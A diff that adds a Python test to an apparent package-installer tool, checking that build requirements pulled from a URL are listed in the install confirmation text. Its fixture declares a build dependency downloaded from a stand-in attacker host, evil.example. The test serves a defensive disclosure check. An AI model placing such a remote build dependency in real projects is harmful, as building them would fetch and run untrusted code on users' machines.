@@ -524,3 +524,20 @@ def test_installing_the_project_lists_the_sources_its_manager_obeys(
     assert plan.needs_confirmation, plan
     assert shown in (plan.confirmation_text or "")
     assert "local" not in (plan.confirmation_text or "")
+
+
+def test_build_requirements_from_a_url_are_listed_when_installing_the_project(
+    tmp_path: Path,
+) -> None:
+    env = fake_venv(tmp_path / ".venv", with_pip=True)
+    (tmp_path / "pyproject.toml").write_text(
+        '[project]\nname = "p"\nversion = "1"\n[build-system]\n'
+        'requires = ["hatchling", "evilbuild @ https://evil.example/evilbuild.tar.gz"]\n'
+        'build-backend = "hatchling.build"\n'
+    )
+    req = InstallRequest(env, project_root=tmp_path, install_project=True, trusted=True, environ={})
+    plan = plan_of(plan_install(req, which=which_with()))
+    assert plan.steps[-1].argv[-2:] == ("-e", str(tmp_path))
+    assert "build-system.requires = evilbuild @ https://evil.example/evilbuild.tar.gz" in (
+        plan.confirmation_text or ""
+    )
